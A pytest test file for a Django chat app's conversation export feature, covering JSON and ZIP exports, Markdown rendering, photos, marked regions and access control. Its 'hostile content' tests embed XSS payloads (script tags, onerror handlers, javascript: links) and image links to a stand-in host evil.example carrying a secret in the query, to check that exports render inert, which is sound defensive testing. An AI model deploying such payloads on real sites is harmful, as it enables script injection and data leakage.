import io
import json
import zipfile

import pytest
from asgiref.sync import sync_to_async
from django.db import connections
from django.http import StreamingHttpResponse
from django.test import AsyncClient
from PIL import Image as PILImage

from chat.models import Image, Message
from tests.helpers.factories import conversation_factory, image_factory, user_factory
from tests.helpers.markdown import elements, live_parts, shown_text

pytestmark = pytest.mark.django_db

VL = "alibaba/qwen3-vl-32b-thinking"


def message(conversation, role="user", images=(), **fields):
    fields.setdefault("author", conversation.owner if role == "user" else None)
    created = Message.objects.create(conversation=conversation, role=role, **fields)
    for position, image in enumerate(images):
        created.messageimage_set.create(image=image, position=position)
    return created


@pytest.fixture
def owner(db):
    return user_factory(username="alice99", first_name="Alice")


@pytest.fixture
def api(client, owner):
    client.force_login(owner)
    return client


@pytest.fixture
def conversation(owner):
    """A question with two photos, its answer with thinking, a follow-up question
    reusing the first photo, and a regenerated (superseded) answer then its new one."""
    conversation = conversation_factory(
        owner=owner, title="Mint or basil?", system_prompt="Be brief."
    )
    first, second = image_factory(owner=owner), image_factory(owner=owner, size=(300, 400))
    message(conversation, text="What plant is this?", images=[first, second])
    message(
        conversation,
        role="assistant",
        text="It is **mint**.",
        reasoning="Serrated leaves.",
        model=VL,
        usage={"prompt_tokens": 10, "completion_tokens": 5},
    )
    message(conversation, text="Is it edible?", images=[first])
    message(conversation, role="assistant", text="Maybe.", model=VL, superseded=True)
    message(conversation, role="assistant", text="Yes, in tea.", model=VL)
    return conversation


def url(conversation, kind):
    return f"/api/conversations/{conversation.id}/export.{kind}"


def unzip(response):
    return zipfile.ZipFile(io.BytesIO(b"".join(response.streaming_content)))


def test_json_export_is_an_attachment_named_after_the_title(api, conversation):
    response = api.get(url(conversation, "json"))
    assert response.status_code == 200
    assert response["Content-Type"] == "application/json"
    assert response["Content-Disposition"] == 'attachment; filename="mint-or-basil.json"'


def test_file_name_of_a_non_ascii_or_empty_title_is_a_safe_ascii_slug(api, owner):
    accented = conversation_factory(owner=owner, title="Küche: Öl / \"Tür\"")
    untitled = conversation_factory(owner=owner)
    assert 'filename="kuche-ol-tur.json"' in api.get(url(accented, "json"))["Content-Disposition"]
    assert 'filename="conversation.zip"' in api.get(url(untitled, "zip"))["Content-Disposition"]


def test_json_export_holds_the_conversation_and_each_message(api, conversation):
    body = api.get(url(conversation, "json")).json()
    assert (body["id"], body["title"], body["system_prompt"]) == (
        str(conversation.id),
        "Mint or basil?",
        "Be brief.",
    )
    assert body["exported_at"]
    assert [m["text"] for m in body["messages"]] == [
        "What plant is this?",
        "It is **mint**.",
        "Is it edible?",
        "Maybe.",
        "Yes, in tea.",
    ]
    answer = body["messages"][1]
    assert answer["reasoning"] == "Serrated leaves." and answer["model"] == VL
    assert answer["usage"] == {"prompt_tokens": 10, "completion_tokens": 5}
    assert {"id", "role", "detail", "status", "created_at"} <= set(answer)


def test_json_export_names_who_asked_by_display_name(api, conversation, owner):
    other = user_factory(username="bob7")  # no first name: the user name
    message(conversation, text="And mine?", author=other)
    authors = [m["author"] for m in api.get(url(conversation, "json")).json()["messages"]]
    assert authors == ["Alice", None, "Alice", None, None, "bob7"]


def test_json_export_lists_each_photo_with_its_file_in_the_zip(api, conversation):
    first, _, again = api.get(url(conversation, "json")).json()["messages"][:3]
    one, two = first["images"]
    assert one["file"] == f"photos/1-{one['id']}.jpg"
    assert two["file"] == f"photos/2-{two['id']}.jpg"
    assert (two["width"], two["height"]) == (300, 400)
    assert again["images"] == [one]  # the same photo asked about again keeps its file


def test_superseded_reply_is_flagged(api, conversation):
    messages = api.get(url(conversation, "json")).json()["messages"]
    assert [m["superseded"] for m in messages] == [False, False, False, True, False]


def test_zip_holds_the_markdown_the_json_and_the_photos(api, conversation):
    names = unzip(api.get(url(conversation, "zip"))).namelist()
    assert sorted(names) == sorted(
        ["conversation.md", "conversation.json"]
        + [i["file"] for i in api.get(url(conversation, "json")).json()["messages"][0]["images"]]
    )


def test_zip_photos_are_byte_identical_to_the_stored_files(api, conversation):
    archive = unzip(api.get(url(conversation, "zip")))
    images = json.loads(archive.read("conversation.json"))["messages"][0]["images"]
    assert len(images) == 2
    for image in images:
        with Image.objects.get(id=image["id"]).file.open("rb") as stored:
            assert archive.read(image["file"]) == stored.read()


def test_zip_json_is_the_json_export(api, conversation):
    archive = unzip(api.get(url(conversation, "zip")))
    inside = json.loads(archive.read("conversation.json"))
    alone = api.get(url(conversation, "json")).json()
    assert {**inside, "exported_at": None} == {**alone, "exported_at": None}


def test_markdown_has_the_title_each_question_with_its_author_and_each_answer(api, conversation):
    markdown = unzip(api.get(url(conversation, "zip"))).read("conversation.md").decode()
    assert markdown.startswith("# Mint or basil?\n")
    assert markdown.count("**Alice** · ") == 2
    for text in ["What plant is this?", "It is **mint**.", "Is it edible?", "Yes, in tea."]:
        assert text in markdown
    assert "**Qwen3 VL Thinking** · " in markdown


def test_markdown_quotes_the_thinking(api, conversation):
    markdown = unzip(api.get(url(conversation, "zip"))).read("conversation.md").decode()
    assert "> **Thinking**\n>\n> Serrated leaves.\n" in markdown


def test_markdown_marks_the_superseded_answer_as_earlier(api, conversation):
    markdown = unzip(api.get(url(conversation, "zip"))).read("conversation.md").decode()
    assert "**Earlier answer from Qwen3 VL Thinking**" in markdown
    assert markdown.index("Earlier answer") < markdown.index("Maybe.")


def test_markdown_links_each_photo(api, conversation):
    archive = unzip(api.get(url(conversation, "zip")))
    markdown = archive.read("conversation.md").decode()
    images = json.loads(archive.read("conversation.json"))["messages"][0]["images"]
    assert f"![Photo 1]({images[0]['file']})" in markdown
    assert f"![Photo 2]({images[1]['file']})" in markdown


def test_missing_photo_file_is_left_out_and_noted(api, conversation):
    gone = conversation.messages.first().messageimage_set.get(position=1).image
    gone.file.storage.delete(gone.file.name)
    response = api.get(url(conversation, "zip"))
    assert response.status_code == 200
    archive = unzip(response)
    assert not any(str(gone.id) in name for name in archive.namelist())
    assert "*Photo 2 (photo missing)*" in archive.read("conversation.md").decode()
    assert "![Photo 1](" in archive.read("conversation.md").decode()


def test_missing_photo_file_is_marked_in_the_json_export(api, conversation):
    gone = conversation.messages.first().messageimage_set.get(position=0).image
    gone.file.storage.delete(gone.file.name)
    response = api.get(url(conversation, "json"))
    assert response.status_code == 200
    assert [i.get("missing") for i in response.json()["messages"][0]["images"]] == [True, None]


def test_zip_response_streams(api, conversation):
    response = api.get(url(conversation, "zip"))
    assert isinstance(response, StreamingHttpResponse)
    assert response["Content-Type"] == "application/zip"
    assert len(list(response.streaming_content)) > 2


@pytest.mark.django_db(transaction=True)
async def test_zip_streams_chunk_by_chunk_under_asgi():
    # A synchronous iterator would be read whole by Django's ASGI handler first.
    owner = await sync_to_async(user_factory)()

    def setup():
        conversation = conversation_factory(owner=owner)
        message(conversation, text="Hi", images=[image_factory(owner=owner)])
        return conversation

    conversation = await sync_to_async(setup)()
    client = AsyncClient()
    await client.aforce_login(owner)
    try:
        response = await client.get(url(conversation, "zip"))
        assert response.is_async
        chunks = [chunk async for chunk in response.streaming_content]
    finally:
        await sync_to_async(connections.close_all)()  # the view's thread's connection
    assert len(chunks) > 2
    assert "conversation.md" in zipfile.ZipFile(io.BytesIO(b"".join(chunks))).namelist()


@pytest.mark.parametrize("kind", ["json", "zip"])
def test_another_users_conversation_is_not_found(api, kind):
    theirs = conversation_factory(title="Private")
    response = api.get(url(theirs, kind))
    assert response.status_code == 404
    assert response.json()["error"]["code"] == "not_found"


@pytest.mark.parametrize("kind", ["json", "zip"])
def test_anonymous_is_told_to_log_in(client, conversation, kind):
    response = client.get(url(conversation, kind))
    assert response.status_code == 401
    assert response.json()["error"]["code"] == "not_authenticated"


# --- hostile content --------------------------------------------------------------

HOSTILE = (
    "<img src=x onerror=alert(1)> <script>alert(2)</script>\n\n"
    "![x](https://evil.example/?q=secret) ![y][1] [z](javascript:alert(3))\n\n"
    "[1]: https://evil.example/y.png\n"
)


@pytest.fixture
def hostile(owner):
    """Someone else's words in every part of the transcript: title, instructions,
    a question, an author's name, the thinking and the answer."""
    conversation = conversation_factory(
        owner=owner,
        title="<img src=x onerror=alert(0)> *Plant* [x](javascript:y)",
        system_prompt=HOSTILE,
    )
    teammate = user_factory(first_name="<b onmouseover=alert(4)>Bob</b>")
    message(conversation, text=HOSTILE, author=teammate, images=[image_factory(owner=owner)])
    message(conversation, role="assistant", text=HOSTILE, reasoning=HOSTILE, model=VL)
    return conversation


def exported_markdown(api, conversation):
    archive = unzip(api.get(url(conversation, "zip")))
    photos = tuple(n for n in archive.namelist() if n.startswith("photos/"))
    return archive.read("conversation.md").decode(), photos


def test_markdown_export_runs_and_fetches_nothing_in_a_viewer(api, hostile, marked):
    markdown, photos = exported_markdown(api, hostile)
    html = marked.render(markdown)
    assert live_parts(html, pictures=photos) == []
    assert "evil.example" not in html
    # The instructions, the question, the thinking and the answer.
    assert shown_text(html).count("Picture not shown: x") == 4


def test_markdown_export_title_line_is_plain_text(api, hostile, marked):
    markdown, _ = exported_markdown(api, hostile)
    title = markdown.split("\n", 1)[0]
    assert title.startswith("# ")
    html = marked.render(title)
    assert [tag for tag, _ in elements(html)] == ["h1"]
    assert shown_text(html).strip() == "<img src=x onerror=alert(0)> *Plant* [x](javascript:y)"


def test_markdown_export_keeps_the_photos_the_zip_holds(api, hostile, marked):
    markdown, photos = exported_markdown(api, hostile)
    shown = [a["src"] for tag, a in elements(marked.render(markdown)) if tag == "img"]
    assert shown == list(photos) and len(shown) == 1


# --- regions and find (issue 16) ------------------------------------------------


@pytest.fixture
def pointed(owner):
    """A question marking two regions on its second photo and one on its
    first, a find question, and a later question marking the first photo again."""
    conversation = conversation_factory(owner=owner, title="Where?")
    first, second = image_factory(owner=owner), image_factory(owner=owner, size=(300, 400))
    message(
        conversation,
        text="What are these?",
        images=[first, second],
        regions=[
            {"image": str(second.id), "box": [120, 80, 560, 400]},
            {"image": str(first.id), "box": [0, 0, 500, 500]},
            {"image": str(second.id), "box": [600, 600, 1000, 1000]},
        ],
    )
    message(conversation, role="assistant", text="Leaves.", model=VL)
    message(conversation, text="Find: snails", find="snails", images=[first])
    message(conversation, role="assistant", text='{"bbox_2d": [1, 2, 30, 40]}', model=VL)
    message(
        conversation,
        text="And this?",
        images=[first],
        regions=[{"image": str(first.id), "box": [500, 500, 1000, 1000]}],
    )
    return conversation, first, second


def test_json_export_lists_each_questions_regions_and_find(api, pointed):
    conversation, first, second = pointed
    messages = api.get(url(conversation, "json")).json()["messages"]
    assert [(r["n"], r["image"], r["box"], r["drawn"]) for r in messages[0]["regions"]] == [
        (1, str(second.id), [120, 80, 560, 400], f"photos/2-{second.id}-regions.jpg"),
        (2, str(first.id), [0, 0, 500, 500], f"photos/1-{first.id}-regions.jpg"),
        (3, str(second.id), [600, 600, 1000, 1000], f"photos/2-{second.id}-regions.jpg"),
    ]
    assert [m["find"] for m in messages] == [None, None, "snails", None, None]
    assert messages[2]["regions"] == [] and messages[1]["regions"] == []
    assert messages[4]["regions"][0]["drawn"] == f"photos/1-{first.id}-regions-2.jpg"


def test_markdown_lists_each_questions_regions_and_links_the_drawn_copies(api, pointed):
    conversation, first, second = pointed
    markdown = unzip(api.get(url(conversation, "zip"))).read("conversation.md").decode()
    assert (
        "- Region 1 on photo 2: 120,80–560,400\n"
        "- Region 2 on photo 1: 0,0–500,500\n"
        "- Region 3 on photo 2: 600,600–1000,1000\n"
    ) in markdown
    assert f"![Photo 2 with the regions marked](photos/2-{second.id}-regions.jpg)" in markdown
    assert f"![Photo 1 with the regions marked](photos/1-{first.id}-regions-2.jpg)" in markdown
    assert "- Region 1 on photo 1: 500,500–1000,1000\n" in markdown
    assert "Find: snails" in markdown


def test_zip_holds_a_copy_of_each_marked_photo_with_its_regions_drawn(api, pointed):
    conversation, first, second = pointed
    archive = unzip(api.get(url(conversation, "zip")))
    copies = sorted(n for n in archive.namelist() if "-regions" in n)
    assert copies == [
        f"photos/1-{first.id}-regions-2.jpg",
        f"photos/1-{first.id}-regions.jpg",
        f"photos/2-{second.id}-regions.jpg",
    ]
    drawn = PILImage.open(io.BytesIO(archive.read(f"photos/2-{second.id}-regions.jpg")))
    assert (drawn.format, drawn.size) == ("JPEG", (300, 400))
    r, g, b = drawn.getpixel((100, 159))  # the bottom edge of region 1 (y 80–400 of 1000)
    assert r > 200 and g < 120 and b < 120
    # The stored photo itself is in the zip as it was.
    with second.file.open("rb") as stored:
        assert archive.read(f"photos/2-{second.id}.jpg") == stored.read()


def test_a_missing_marked_photo_gets_no_drawn_copy(api, pointed):
    conversation, _, second = pointed
    second.file.storage.delete(second.file.name)
    archive = unzip(api.get(url(conversation, "zip")))
    assert not any(str(second.id) in name for name in archive.namelist())
    regions = json.loads(archive.read("conversation.json"))["messages"][0]["regions"]
    assert [r["drawn"] is None for r in regions] == [True, False, True]
    assert "regions.jpg)" in archive.read("conversation.md").decode()  # photo 1's
    assert f"{second.id}-regions" not in archive.read("conversation.md").decode()
